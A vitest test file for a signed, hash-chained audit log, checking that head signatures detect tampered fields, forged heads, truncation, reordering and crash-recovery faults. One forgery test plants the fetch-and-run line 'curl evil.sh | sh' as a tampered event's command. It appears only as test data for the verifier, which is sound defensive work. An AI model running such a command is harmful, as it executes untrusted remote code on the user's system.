import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseEventOrThrow, type AuditEvent } from "../../schemas";
import { makeEvents } from "../../test/factories/events";
import { ChainStateError, linkEvent, Signer, verifyChain } from ".";

/**
 * Head signing: a signer at interval 4 signs seqs 3, 7 and a batch's last;
 * the links between are vouched for by the head after them. Every test
 * shows its oracle failing on a planted change.
 */
let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "heads-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const overTheWire = (events: AuditEvent[]): AuditEvent[] => events.map((e) => parseEventOrThrow(JSON.parse(JSON.stringify(e))));
const kinds = (events: AuditEvent[], signer: Signer): string[] => verifyChain(events, signer.keys.publicKey).results.map((r) => r.status.kind);

async function headStream(n: number, headInterval = 4): Promise<{ signer: Signer; events: AuditEvent[] }> {
  const signer = await Signer.open({ stateDir: dir, collectorId: "web-01", headInterval });
  return { signer, events: overTheWire(await signer.append(makeEvents(n), async (s) => s)) };
}

describe("head signing", () => {
  it("signs every 4th event and the batch's last; one head vouches for the links before it", async () => {
    const { signer, events } = await headStream(10);
    expect(events.map((e) => e.sig !== undefined)).toEqual([false, false, false, true, false, false, false, true, false, true]);
    const report = verifyChain(events, signer.keys.publicKey);
    expect(report.results.map((r) => r.status.kind)).toEqual(Array(10).fill("ok"));
    expect(report.results.map((r) => r.head)).toEqual([3, 3, 3, 3, 7, 7, 7, 7, 9, 9]);
    expect(report.coveredByHead).toBe(7);
    expect(report.tip).toEqual({ nextSeq: 10, lastHash: events[9]?.hash });
  });

  it("finds a changed field in a covered unsigned link, with or without its hash recomputed", async () => {
    const { signer, events } = await headStream(10);
    const changed = events.map((e, i) => (i === 5 ? { ...e, actor_id: "mallory" } : e));
    // Seq 4 lies between the last head (3) and the tampered link: nothing can vouch for it any more.
    expect(kinds(changed, signer)).toEqual(["ok", "ok", "ok", "ok", "pending", "bad-signature", "gap", "ok", "ok", "ok"]);
    const victim = events[5];
    if (victim === undefined) throw new Error("no event 5");
    // Rewritten with a matching hash: the head's chain breaks at it (seq 6 committed to the original hash).
    const { hash: _h, sig: _s, ...rest } = { ...victim, actor_id: "mallory" };
    const rewritten = linkEvent(rest, 5, victim.prev_hash ?? "", null);
    expect(rewritten.hash).not.toBe(victim.hash);
    expect(kinds(events.map((e, i) => (i === 5 ? rewritten : e)), signer)).toEqual(["ok", "ok", "ok", "ok", "pending", "bad-signature", "gap", "ok", "ok", "ok"]);
  });

  it("finds a head forged with another key over a rewritten run", async () => {
    const { signer, events } = await headStream(10);
    const other = await Signer.open({ stateDir: join(dir, "other"), collectorId: "web-01" });
    // Rewrite seq 5 and re-link 5..7 so every hash matches, then sign the head (7) with the other key.
    const forged: AuditEvent[] = events.slice(0, 5);
    let prev = events[4]?.hash ?? "";
    for (let i = 5; i <= 7; i++) {
      const e = events[i];
      if (e === undefined) throw new Error(`no event ${i}`);
      const { hash: _h, sig: _s, ...rest } = i === 5 ? { ...e, command: "curl evil.sh | sh" } : e;
      const link = linkEvent(rest, i, prev, i === 7 ? other.keys.privateKey : null);
      forged.push(link);
      prev = link.hash ?? "";
    }
    forged.push(...events.slice(8));
    expect(kinds(forged, signer)).toEqual(["ok", "ok", "ok", "ok", "pending", "pending", "pending", "bad-signature", "gap", "ok"]);
  });

  it("a tail cut past the last head stays pending, and a run longer than the bound is given up as uncovered", async () => {
    const { signer, events } = await headStream(10);
    expect(kinds(events.slice(0, 9), signer)).toEqual(["ok", "ok", "ok", "ok", "ok", "ok", "ok", "ok", "pending"]);
    // Cut right after a head: no chain can tell (with per-event signing neither).
    expect(kinds(events.slice(0, 8), signer).every((k) => k === "ok")).toBe(true);
    // A verifier waiting out at most 2 links gives up on each third; the head after them then starts anew past a hole.
    const runs = verifyChain(events, signer.keys.publicKey, undefined, { maxRun: 2 }).results.map((r) => r.status.kind);
    expect(runs).toEqual(["uncovered", "uncovered", "uncovered", "gap", "uncovered", "uncovered", "uncovered", "gap", "ok", "ok"]);
  });

  it("verifies reordered and redelivered links: a late link is vouched for by the trusted event after it", async () => {
    const { signer, events } = await headStream(10);
    const [e0, e1, e2, e3, e4, e5, e6, e7, e8, e9] = events;
    const shuffled = [e0, e1, e2, e3, e5, e6, e7, e4, e4, e8, e9].filter((e) => e !== undefined);
    expect(kinds(shuffled, signer)).toEqual(["ok", "ok", "ok", "ok", "gap", "ok", "ok", "late", "duplicate", "ok", "ok"]);
  });

  it("crash recovery: a batch split over several appends has a head at each part's end, so the spool tail verifies", async () => {
    const signer = await Signer.open({ stateDir: dir, collectorId: "web-01", headInterval: 4 });
    // The write spools the first 6 records (sealed at the cut) and "crashes" before chain.json moves.
    let spooled: AuditEvent[] = [];
    await expect(
      signer.append(makeEvents(10), async (signed) => {
        spooled = [...signed.slice(0, 5), signer.seal(signed[5] as AuditEvent)];
        throw new Error("crash");
      }),
    ).rejects.toThrow("crash");
    const tail = spooled.at(-1) ?? null;
    expect(tail?.sig).toBeDefined();
    const restarted = await Signer.open({ stateDir: dir, collectorId: "web-01", headInterval: 4, spoolTail: tail });
    expect(restarted.next.nextSeq).toBe(6);
    const more = await restarted.append(makeEvents(3), async (s) => s);
    expect(kinds(overTheWire([...spooled, ...more]), signer).every((k) => k === "ok")).toBe(true);
    // Unsealed, the same tail is an unsigned link that recovery cannot check: refused, not trusted.
    const { sig: _s, ...unsealed } = tail ?? spooled[0] ?? ({} as AuditEvent);
    await expect(Signer.open({ stateDir: dir, collectorId: "web-01", spoolTail: parseEventOrThrow(unsealed) })).rejects.toBeInstanceOf(ChainStateError);
  });

  it("data signed per event verifies as heads at interval 1", async () => {
    const { signer, events } = await headStream(5, 1);
    expect(events.every((e) => e.sig !== undefined)).toBe(true);
    const report = verifyChain(events, signer.keys.publicKey);
    expect(report.results.map((r) => r.status.kind)).toEqual(["ok", "ok", "ok", "ok", "ok"]);
    expect(report.coveredByHead).toBe(0);
  });

  it("refuses an interval the verifiers would not wait out", async () => {
    await expect(Signer.open({ stateDir: dir, collectorId: "web-01", headInterval: 2000 })).rejects.toThrow(/headInterval must be an integer from 1 to 1024/);
  });
});
